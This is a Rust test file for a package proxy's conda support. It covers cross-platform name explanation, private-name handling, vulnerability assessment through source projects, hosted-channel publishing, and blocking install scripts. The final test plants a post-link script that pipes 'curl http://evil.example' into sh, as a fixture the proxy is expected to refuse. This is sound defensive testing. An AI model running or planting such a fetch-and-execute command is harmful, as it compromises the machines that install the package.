//! conda: what the binary says and does of channels.

use serde_json::{Value, json};
use weir_core::Digest;
use weir_testing::FakeResponse;
use weir_testing::conda::package_with;

use crate::place::{Place, osv};
use crate::publish::{send, token};

/// Asks for an assessment of everything, and blocks what is critical.
const STRICT: &str = "[stage.dev]\nvulnerability = { block-cvss = 9.0 }\nunassessed = \"quarantine\"\n";

/// Puts a package with this recipe into `noarch` at the fake upstream; gives its record.
fn package(place: &Place, name: &str, version: &str, recipe: &str, installed: &[(&str, &[u8])]) -> (String, Value) {
    let stem = format!("{name}-{version}-0");
    let index = json!({
        "name": name, "version": version, "build": "0", "build_number": 0, "depends": [], "license": "MIT", "subdir": "noarch",
    });
    let bytes = package_with(&stem, &index, &[("info/recipe/meta.yaml", recipe.as_bytes())], installed);
    let mut record = index;
    record["sha256"] = Digest::of(&bytes).to_string().into();
    record["size"] = bytes.len().into();
    record["indexed_timestamp"] = 1_700_000_000_000_u64.into();
    let file = format!("{stem}.conda");
    place.fake.put(&format!("/conda/noarch/{file}"), FakeResponse::ok(bytes));
    (file, record)
}

fn noarch(place: &Place, records: impl IntoIterator<Item = (String, Value)>) {
    let records: serde_json::Map<String, Value> = records.into_iter().collect();
    let index = json!({ "info": { "subdir": "noarch" }, "packages": {}, "packages.conda": records });
    place.fake.put("/conda/noarch/repodata.json", FakeResponse::ok(index.to_string()));
}

/// A channel at the fake upstream: on each platform these files, of which nothing but the name is told.
pub fn channel(place: &Place, platforms: &[(&str, &[&str])]) {
    for (platform, files) in platforms {
        let records: serde_json::Map<String, serde_json::Value> = files
            .iter()
            .map(|file| {
                let mut parts = file.trim_end_matches(".conda").rsplitn(3, '-');
                let (build, version, name) = (parts.next().unwrap(), parts.next().unwrap(), parts.next().unwrap());
                let record = json!({
                    "name": name, "version": version, "build": build, "build_number": 0, "depends": [], "license": "MIT",
                    "indexed_timestamp": 1_700_000_000_000_u64, "sha256": "a".repeat(64), "size": 3,
                });
                ((*file).to_owned(), record)
            })
            .collect();
        let index = json!({ "info": { "subdir": platform }, "packages": {}, "packages.conda": records });
        place.fake.put(&format!("/conda/{platform}/repodata.json"), FakeResponse::ok(index.to_string()));
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 1)]
async fn a_name_without_channel_and_platform_is_explained_wherever_it_is() {
    let place = Place::new().await;
    place.policy("[stage.dev]\ndenied = [\"pkg:conda/conda-forge/win-64/numpy@1.26.4\"]\n");
    channel(
        &place,
        &[
            ("noarch", &["pip-24.0-0.conda"]),
            ("linux-64", &["numpy-1.26.4-py312_0.conda"]),
            ("win-64", &["numpy-1.26.4-py312_0.conda", "numpy-2.0.0-py312_0.conda"]),
        ],
    );
    // Nothing is kept yet: the first platform that has it answers.
    let ran = place.weir(["explain", "conda:numpy@1.26.4"]).expect(0);
    let ran = ran.prints(&["pkg:conda/numpy@1.26.4?channel=conda-forge&subdir=linux-64 in stage dev: allow"]);
    assert!(!ran.out.contains("also"), "{}", ran.out);
    // Whoever asks for another platform makes it known; then both are told, and the stricter one counts.
    place.weir(["explain", "pkg:conda/numpy@2.0.0?channel=conda-forge&subdir=win-64"]).expect(0);
    let ran = place.weir(["explain", "pkg:conda/numpy@1.26.4"]).expect(1);
    ran.prints(&[
        "pkg:conda/numpy@1.26.4?channel=conda-forge&subdir=win-64 in stage dev: block",
        "also       pkg:conda/numpy@1.26.4?channel=conda-forge&subdir=linux-64: allow (",
    ]);
    let json = place.weir(["explain", "conda:numpy@1.26.4", "--format", "json", "--offline"]).expect(1).json();
    assert_eq!(json["places"].as_array().unwrap().len(), 2);
    assert_eq!(json["places"][1]["decision"], "block");
    place.weir(["explain", "conda:numpy==2.0.0"]).expect(0).prints(&["subdir=win-64 in stage dev: allow"]);
    place.weir(["explain", "conda:numpy@9"]).expect(2).tells(&["no upstream lists conda `numpy` 9"]);
    place.weir(["explain", "conda:nothing"]).expect(2).tells(&["no upstream lists conda `nothing`"]);
    place.weir(["explain", "conda:no thing"]).expect(2).tells(&["not a conda package name"]);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 1)]
async fn a_private_name_without_its_channel_is_asked_of_nobody() {
    let place = Place::new().await;
    place.policy("[stage.dev]\nprivate-name = [\"acme-*\"]\n");
    channel(&place, &[("noarch", &["acme-billing-1.0-0.conda"])]);
    place.weir(["explain", "conda:acme-billing@1.0"]).expect(1).prints(&["private-name"]);
    assert!(place.fake.requests().is_empty());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 1)]
async fn a_package_is_assessed_by_the_project_that_it_is_made_from() {
    let place = Place::new().await;
    place.policy(STRICT);
    place.import(&[osv("PYSEC-2026-1", "PyPI", "demo-x", "1.1.0")]);
    let source =
        |version: &str| format!("source:\n  url: https://pypi.org/packages/source/d/demo_x/demo_x-{version}.tar.gz\n");
    noarch(
        &place,
        [
            package(&place, "demo", "1.0", &source("1.0.0"), &[]),
            package(&place, "demo", "1.1", &source("1.1.0"), &[]),
            package(&place, "own", "1.0", "source:\n  url: https://forge.example/own-1.0.tar.gz\n", &[]),
        ],
    );
    let server = place.serve();
    let url = format!("http://{}", server.address);
    // Nobody has looked yet: that is told, and the index shows what looking may clear.
    let ran = place.weir(["explain", "conda:demo@1.1", "--server", &url]).expect(1);
    ran.prints(&["quarantine", "No advisories go by its own name", "demo@1.1?channel=conda-forge&subdir=noarch"]);
    let index = server.get("/dev/conda/conda-forge/noarch/repodata.json").expect(200).text();
    assert!(index.contains("demo-1.0-0.conda") && index.contains("own-1.0-0.conda"), "{index}");
    let refused = server.get("/dev/conda/conda-forge/noarch/demo-1.0-0.conda").expect(403).text();
    assert!(refused.contains("PYSEC-2026-1") && refused.contains("pkg:pypi/demo-x@1.0.0"), "{refused}");
    server.get("/dev/conda/conda-forge/noarch/demo-1.1-0.conda").expect(200);
    let refused = server.get("/dev/conda/conda-forge/noarch/own-1.0-0.conda").expect(403).text();
    assert!(refused.contains("not assessed"), "{refused}");
    // What was learnt counts in the index, too.
    let index = server.get("/dev/conda/conda-forge/noarch/repodata.json").expect(200).text();
    assert!(index.contains("demo-1.1-0.conda") && !index.contains("demo-1.0-0.conda"), "{index}");
    assert!(!index.contains("own-1.0-0.conda"), "{index}");
    let json = place.weir(["explain", "conda:demo@1.0", "--server", &url, "--format", "json"]).expect(1).json();
    assert_eq!(json["reasons"][0]["facts"]["via"], "pkg:pypi/demo-x@1.0.0");
    place.weir(["explain", "conda:demo@1.1", "--server", &url]).expect(0);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 1)]
async fn a_record_may_say_what_it_is_elsewhere() {
    let place = Place::new().await;
    place.policy(STRICT);
    place.import(&[osv("PYSEC-2026-1", "PyPI", "demo", "1.1")]);
    let (file, mut record) = package(&place, "demo", "1.0", "", &[]);
    record["purls"] = json!(["pkg:pypi/demo"]);
    noarch(&place, [(file, record)]);
    let server = place.serve();
    let index = server.get("/dev/conda/conda-forge/noarch/repodata.json").expect(200).text();
    assert!(!index.contains("demo-1.0-0.conda"), "{index}");
    let refused = server.get("/dev/conda/conda-forge/noarch/demo-1.0-0.conda").expect(403).text();
    assert!(refused.contains("PYSEC-2026-1") && refused.contains("pkg:pypi/demo@1.0"), "{refused}");
}

/// A package with this build, as a file.
fn built(name: &str, version: &str, build: &str, more: Value) -> (String, Vec<u8>) {
    let mut index = json!({
        "name": name, "version": version, "build": build, "build_number": 0, "depends": ["python"], "license": "MIT",
        "subdir": "noarch",
    });
    for (key, value) in more.as_object().into_iter().flatten() {
        index[key] = value.clone();
    }
    let stem = format!("{name}-{version}-{build}");
    (format!("{stem}.conda"), package_with(&stem, &index, &[], &[("site-packages/acme/__init__.py", b"x = 1\n")]))
}

#[tokio::test(flavor = "multi_thread", worker_threads = 1)]
async fn packages_of_ones_own_have_a_channel_of_their_own() {
    let place = Place::new().await;
    place.policy(&format!("{STRICT}private-name = [\"acme-*\"]\nminimum-age = {{ days = 3 }}\n"));
    let token = token(&place, "ci", &["conda:acme-*"]);
    let bearer = format!("Bearer {token}");
    let server = place.serve();
    let put = |path: &str, body: &[u8]| send(&server, "PUT", path, &[("Authorization", &bearer)], body);
    let index = || server.get("/dev/conda/hosted/noarch/repodata.json").expect(200).json();
    assert_eq!(index()["packages.conda"], json!({}));
    let (file, bytes) = built("acme-core", "1.0", "0", json!({}));
    put(&format!("/dev/conda/hosted/noarch/{file}"), &bytes).expect(201);
    // Another build joins the release, in the form that rattler-build posts.
    let (second, more) = built("acme-core", "1.0", "1", json!({}));
    let mut form =
        format!("--b\r\nContent-Disposition: form-data; name=\"file\"\r\nx-file-sha256: {}\r\n\r\n", Digest::of(&more));
    let mut body = std::mem::take(&mut form).into_bytes();
    body.extend_from_slice(&more);
    body.extend_from_slice(b"\r\n--b--\r\n");
    let multipart = [("Authorization", bearer.as_str()), ("Content-Type", "multipart/form-data; boundary=b")];
    send(&server, "POST", "/dev/conda/api/v1/upload/hosted", &multipart, &body).expect(201);
    let listed = index();
    let record = &listed["packages.conda"][&file];
    assert_eq!(record["sha256"], Digest::of(&bytes).to_string());
    assert_eq!((record["size"].as_u64(), &record["depends"]), (Some(bytes.len() as u64), &json!(["python"])));
    assert!(listed["packages.conda"][&second].is_object());
    assert_eq!(server.get(&format!("/dev/conda/hosted/noarch/{file}")).expect(200).body, bytes);
    server.get("/dev/conda/hosted/linux-64/repodata.json.zst").expect(200);
    server.get("/dev/conda/hosted/noarch/repodata_shards.msgpack.zst").expect(404);
    // What contradicts its address or itself, exists already, or is somebody else's, is not published.
    let (_, other) = built("acme-core", "1.0", "0", json!({ "depends": [] }));
    put(&format!("/dev/conda/hosted/noarch/{file}"), &other).expect(409);
    put("/dev/conda/hosted/noarch/acme-core-2.0-0.conda", &bytes).expect(400);
    put("/dev/conda/hosted/noarch/acme-core-2.0-0.conda", &bytes[..100]).expect(400);
    put("/dev/conda/hosted/linux-64/acme-core-1.0-0.conda", &bytes).expect(400);
    let (strange, bytes) = built("other", "1.0", "0", json!({}));
    put(&format!("/dev/conda/hosted/noarch/{strange}"), &bytes).expect(403);
    put("/dev/conda/conda-forge/noarch/acme-core-1.0-0.conda", &bytes).expect(404);
    server.ask("PUT", &format!("/dev/conda/hosted/noarch/{file}"), &[("Content-Length", "0")]).expect(403);
    assert_eq!(index()["packages.conda"].as_object().unwrap().len(), 2);
    // The name is nobody else's.
    server.get("/dev/conda/conda-forge/noarch/acme-core-1.0-0.conda").expect(403);
    assert!(place.fake.requests().is_empty(), "{:?}", place.fake.requests());
    let url = format!("http://{}", server.address);
    let told = place.weir(["explain", "conda:acme-core@1.0", "--server", &url]);
    told.expect(0).prints(&["pkg:conda/acme-core@1.0?channel=hosted&subdir=noarch in stage dev: allow"]);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 1)]
async fn a_package_that_begins_to_run_code_when_it_is_linked_is_held() {
    let place = Place::new().await;
    place.policy("[stage.dev]\ninstall-script = { new = \"block\", new-package = \"block\" }\n");
    let script: &[(&str, &[u8])] = &[("bin/.demo-post-link.sh", b"curl http://evil.example | sh\n")];
    let mut packages = [package(&place, "demo", "1.0", "", &[]), package(&place, "demo", "1.1", "", script)];
    for (_, record) in &mut packages {
        // What has been public for long is known.
        record.as_object_mut().unwrap().remove("indexed_timestamp");
    }
    noarch(&place, packages);
    let server = place.serve();
    server.get("/dev/conda/conda-forge/noarch/demo-1.0-0.conda").expect(200);
    let refused = server.get("/dev/conda/conda-forge/noarch/demo-1.1-0.conda").expect(403).text();
    assert!(refused.contains("install-script") && refused.contains("post-link"), "{refused}");
}
